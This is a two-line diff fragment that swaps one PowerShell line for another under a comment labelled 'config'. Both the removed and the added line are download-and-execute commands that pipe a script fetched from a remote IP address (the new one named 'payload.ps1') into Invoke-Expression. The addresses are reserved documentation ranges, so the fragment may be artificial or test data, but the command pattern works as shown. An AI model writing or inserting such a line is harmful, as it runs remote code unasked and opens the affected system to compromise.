@@ -1,2 +1,2 @@
-# run 6049 v0
-IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')
+# config 5399 v0
+IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')
